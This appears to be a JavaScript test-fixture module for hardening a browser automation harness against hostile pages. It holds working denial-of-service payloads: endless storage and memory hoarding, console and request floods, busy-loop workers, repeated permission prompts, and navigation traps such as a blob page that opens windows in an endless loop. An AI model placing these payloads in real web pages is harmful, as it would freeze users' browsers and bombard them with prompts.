// Attacks that exhaust a resource, request permissions, or navigate away; each continues while the page lives.
'use strict';
__d('StandInHoard', (require, exports) => {
  const { pause } = require('StandInBase');
  const MB = 2 ** 20;
  const quietly = (act) => {
    try {
      Promise.resolve(act()).catch(() => {});
    } catch {
      // refused
    }
  };
  const source = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));

  exports.storage = async () => {
    const opened = indexedDB.open('hoard', 1);
    opened.onupgradeneeded = () => opened.result.createObjectStore('all', { autoIncrement: true });
    await new Promise((resolve) => (opened.onsuccess = resolve));
    const cache = await caches.open('hoard');
    for (let count = 0; ; count++) {
      const part = crypto.getRandomValues(new Uint8Array(65536));
      const whole = new Blob(new Array(128).fill(part)); // 8 MB
      quietly(() => opened.result.transaction('all', 'readwrite').objectStore('all').add(whole));
      quietly(() => cache.put(`/hoard/${count}`, new Response(whole)));
      quietly(() => localStorage.setItem(`hoard${count}`, 'x'.repeat(MB)));
      await pause(0.02);
    }
  };

  exports.worker_memory = async () => {
    const url = source(`const hoard = []; setInterval(() => hoard.push(new Uint8Array(${16 * MB}).fill(1)), 50);`);
    for (let count = 0; count < 8; count++) quietly(() => (window[`hoarder${count}`] = new Worker(url)));
    for (let count = 0; count < 8; count++) quietly(() => new SharedWorker(url, `hoarder${count}`));
  };

  // What workers print reaches the driver by another channel than what the page prints.
  exports.worker_console = () => {
    const url = source("const line = 'w'.repeat(100_000); setInterval(() => { for (let i = 0; i < 100; i++) console.error(line); }, 20);");
    for (let count = 0; count < 4; count++) quietly(() => (window[`printer${count}`] = new Worker(url)));
  };

  exports.elements = async () => {
    for (;;) {
      const box = document.createElement('div');
      box.innerHTML = '<p style="position:absolute"><b>x</b></p>'.repeat(5000);
      box.hidden = true;
      document.body.append(box);
      await pause(0.02);
    }
  };

  exports.titles = async () => {
    for (let count = 0; ; count++) {
      document.title = String(count) + 't'.repeat(MB);
      await pause(0.01);
    }
  };

  // Everything that a browser would ask a person about, or show them.
  exports.prompts = async () => {
    for (;;) {
      const root = document.documentElement;
      const chooser = document.createElement('input');
      chooser.type = 'file';
      for (const ask of [
        () => window.print(),
        () => root.requestFullscreen(),
        () => root.requestPointerLock(),
        () => chooser.click(),
        () => window.showOpenFilePicker?.(),
        () => navigator.clipboard?.writeText('taken'),
        () => document.execCommand('copy'),
        () => navigator.wakeLock?.request('screen'),
        () => navigator.share?.({ text: 'x' }),
        () => navigator.usb?.requestDevice({ filters: [] }),
        () => navigator.bluetooth?.requestDevice({ acceptAllDevices: true }),
        () => navigator.registerProtocolHandler('web+x', '/%s'),
        () => navigator.mediaDevices?.getDisplayMedia?.(),
        () => navigator.requestMIDIAccess?.({ sysex: true }),
        () => new PaymentRequest([{ supportedMethods: 'basic-card' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).show(),
      ]) quietly(ask);
      await pause(0.1);
    }
  };

  exports.requests = async () => {
    for (let count = 0; ; count++) {
      for (let one = 0; one < 20; one++) {
        quietly(() => fetch(`/frame?${count}.${one}`, { cache: 'no-store' }));
        quietly(() => fetch(`http://site-${one}.localhost:${location.port}/frame`, { mode: 'no-cors' }));
      }
      quietly(() => new WebSocket(`ws://${location.host}/ws/none`));
      quietly(() => new RTCPeerConnection().createDataChannel('x'));
      await pause(0.1);
    }
  };

  // What goes over sockets, or stands in an address, is shown to whoever inspects the page, at its full length.
  exports.sockets = async () => {
    const frame = 's'.repeat(MB);
    const sink = new WebSocket(`ws://${location.host}/ws/sink`);
    await new Promise((resolve) => (sink.onopen = resolve));
    for (;;) {
      for (let count = 0; count < 20 && sink.bufferedAmount < 20 * MB; count++) sink.send(frame);
      await pause(0.01);
    }
  };

  exports.worker_sockets = () => {
    const url = source(`
      const frame = 's'.repeat(${MB});
      const sink = new WebSocket('ws://${location.host}/ws/sink');
      sink.onopen = () => setInterval(() => {
        for (let count = 0; count < 20 && sink.bufferedAmount < ${20 * MB}; count++) sink.send(frame);
      }, 10);
    `);
    window.socketWorker = new Worker(url);
  };

  exports.long_addresses = async () => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    for (let count = 0; ; count++) {
      const long = `${count}${'u'.repeat(1.9 * MB)}`;
      quietly(() => fetch(`data:text/plain,${long}`));
      quietly(() => fetch(`/none?${long}`, { mode: 'no-cors' }));
      frame.src = `/none#${long}`;
      frame.name = long;
      await pause(0.02);
    }
  };

  // One thread that never rests, beside a page that answers everything.
  exports.busy_worker = () => {
    window.busyWorker = new Worker(source('for (;;);'));
  };

  // Frames that ask for documents without ever getting one.
  exports.reframes = async () => {
    const frames = Array.from({ length: 20 }, () => document.body.appendChild(document.createElement('iframe')));
    for (let count = 0; ; count++) {
      for (const each of frames) each.contentWindow.location.href = `/no-content?${count}`;
      await pause(0.02);
    }
  };

  exports.reloads = () => location.reload();

  exports.refresh = () => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0; url=http://site-1.localhost:${location.port}/frame`;
    document.head.append(meta);
  };

  exports.blob = () => {
    location.href = URL.createObjectURL(new Blob(['<script>for (;;) { window.open("/frame"); }</script>'], { type: 'text/html' }));
  };

  exports.data = () => {
    location.href = 'data:text/html,<script>for (;;);</script>';
  };
});
